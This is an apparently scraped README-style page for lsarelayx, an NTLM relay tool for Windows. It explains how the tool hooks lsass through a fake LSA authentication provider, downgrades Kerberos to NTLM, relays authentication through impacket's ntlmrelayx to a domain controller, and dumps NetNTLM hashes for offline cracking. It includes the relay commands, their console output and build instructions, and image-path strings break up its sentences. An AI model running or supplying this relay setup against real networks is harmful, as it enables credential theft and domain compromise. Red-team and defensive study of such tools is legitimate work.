• caglararli@hotmail.com
  • 05386281520

Lsarelayx – NTLM Relaying For Windows Made Easy

Lsarelayx – NTLM Relaying For Windows Made Easy

lsarelayx is system wide NTLM relay tool designed to relay incoming NTLM based authentication to the host it is running on. lsarelayx will relay any incoming authentication requestwhich includes SMB. Since lsarelayx hooks into existing application authentication flows, the tool will also attempt to service the original authentication request after the relay is complete. This will prevent the target application/protocol from displaying errors and function as normal for end users authenticating against the lsarelayx host.


  • Relays NTLM connections system wide, including SMB, HTTP/HTTPS, LDAP/LDAPS or any other third party application implementing the Windows authentication APIs.
  • Where possible, downgrades incoming Kerberos authentication requests to NTLM. This will cause clients that would traditionally attempt Kerberos authentication to fallback to NTLM.
  • Performs an LDAP query for the relayed user to fetch group membership info an create the correct authentication token for the original request.
  • Dumps NetNTLM messages for offline cracking.
  • Supports a passive mode that does not relay and only dumps captured NetNTLM hashes (no Kerberos downgrade in this mode).

How it works

lsarelayx comes in three parts. A fake LSA authentication provider implemented within liblsarelay.dll, a user mode consoleapplication as the control interface and a new ntlmrelayx server module called RAW.


liblsarelayx.dll is the LSA authentication provider that gets loaded by lsarelayx. It's predominant purpose is to hook the NTLM and Negotiate packages to facilitating redirecting authentication requests to lsarelayx over a local named pipe for relaying and dumping NetNTLM hashes. liblsarelayx is designed to be as simple as possible where all the heavy lifting is performed by lsarelayx


lsarelayx.exe is the main console application used to load the custom LSA authentication provider (liblsarelayx.dll), listen for incoming NTLM and Negotiate tokens from the authentication provider and relay to ntlmrelayx's RAW server module. The tool also performs the LDAP queries used for capturing group information for relayed users and passing back to the LSA authentication provider.

RAW ntlmrelayx module

impacket's ntlmrelayx has implemented a significant amount of work creating relay attacks and will continue to improve and add further attack in the future. To take advantage of this in favour of reimplementing attacks directly within lsarelayx, a new ntlmrelayx server module was created called RAW. Currently there isa PR open on GitHub that implements the RAW server module. The RAW server module is protocol agnostic and is designed to accept the raw NTLM messages directly from 3rd party software like lsarelayx.

Until the PR is merged into the mainline impacket repo, you can use this version


Active Mode

First start the ntmlrelayx RAW server module to listen for RAW NTLM messages passed from lsarelayx.

python examples\ntlmrelayx.py -smb2support --no-wcf-server --no-smb-server --no-http-server "-t" smb://dc.victim.lan

Impacket v0.9.24.dev1+20211015.125134.c0ec6102 - Copyright 2021 SecureAuth Corporation

[*] Protocol Client DCSYNC loaded..
[*] Protocol Client HTTPS loaded..
[*] Protocol Client HTTP loaded..
[*] Protocol Client IMAP loaded..
[*] Protocol Client IMAPS loaded..
[*] Protocol Client LDAP loaded..
[*] Protocol Client LDAPS loaded..
[*] Protocol Client MSSQL loaded..
[*] Protocol Client RPC loaded..
[*] Protocol Client SMB loaded..
[*] Protocol Client SMTP loaded..
[*]Running in relay mode to single host
[*] Setting up RAW Server on port 6666

[*] Servers started, waiting for connections

lsarelayx itself requires local administrator permissions to run. To run in active relay mode, the host address where ntlmrelayx is running the raw server module needs to be specified. The default port is 6666. This can be overridden with the --port argument, but be sure to have also overridden the port on the ntlmrelayx side too using the --raw-port argument.

lsarelayx.exe --host
[+] Using for relaying NTLM connections
[=] Attempting to load LSA plugin C:\users\Administrator\Desktop\liblsarelayx.dll

Passive Mode

You can also run lsarelayx in passive mode by running without any arguments

[=] No host supplied, switching to passive mode
[=] Attempting to load LSA plugin C:\users\Administrator\Desktop\liblsarelayx.dllOnce the liblsarelayx DLL has been loaded into lsass, currently you cannot unload it due to limitations of how LSA plugins work. The client can be closed which will put the DLL into a dormant state until the client starts again but the DLL will be in use until a reboot occurs.

Since the LSA plugin is not actually a genuine plugin, there are plans to implement a reflective loader inside the plugin which can then be stopped and started at will but that’s an exercise for another day.

Development was performed on Windows 10 and Server 2016. A quick test was performed on Windows Server 2012 R2 which worked, but the calculation of offsets for hooking can fail on 2012 (this can be provided manually using the lookuppackage-hint=, get it wrong and Windows will reboot). No testing has been performed on anything below Windows 10 on the desktop side and nothing tested on Server 2019 at all.liblsarelayx.dll will be loaded inside the critical lsass.exe process. If liblsarelayx.dll has any bugs that lead to crashing lsass.exe, the host WILL reboot after 60s. Whilst best efforts have been made to write bug free code, I can't promise anything. Don't come crying to me that you took your fortune 500 client down for crashing the busy file server after using lsarelayx.



If you have docker installed, this is the quickest option. It utilises the ccob/windows_cross image with all the build dependencies pre-installed.

Docker on Windows (Powershell)

docker run --rm -it -v $env:pwd\:/root/lsarelayx ccob/windows_cross:latest /bin/bash -c "cd /root/lsarelayx; mkdir build; cd build; cmake -DCMAKE_INSTALL_PREFIX=/root/lsarelayx/dist -DCMAKE_BUILD_TYPE=MinSizeRel -DCMAKE_TOOLCHAIN_FILE=../toolchain/Linux-mingw64.cmake ..; --build . --target install/strip"

Docker on Linux

docker run --rm -it -v $(pwd):/root/lsarelayx ccob/windows_cross:latest /bin/bash -c "cd /root/lsarelayx; mkdir build; cd build; cmake -DCMAKE_INSTALL_PREFIX=/root/lsarelayx/dist -DCMAKE_BUILD_TYPE=MinSizeRel -DCMAKE_TOOLCHAIN_FILE=../toolchain/Linux-mingw64.cmake ..; cmake --build . --target install/strip"


On Linux we utilise a CMake toolchain along with the MinGW compiler. These need to be installed before hand. For the managed component, please makesure the dotnet command line tool is also installed from .NET core

mkdir build
cd build
cmake -DCMAKE_INSTALL_PREFIX=$PWD/dist -DCMAKE_BUILD_TYPE=MinSizeRel -DCMAKE_TOOLCHAIN_FILE=../toolchain/Linux-mingw64.cmake ..
cmake --build . --target install/strip

Windows (Powershell)

Windows will require a full CMake, MinGW and Visual Studio setup before even attempting to build, it's the most painful way to build if you don't have adevelopment environment installed

mkdir build
cd buildcmake -DCMAKE_INSTALL_PREFIX=$PWD/dist-DCMAKE_BUILD_TYPE=MinSizeRel -G"MinGW Makefiles" ..cmake --build . --target install/strip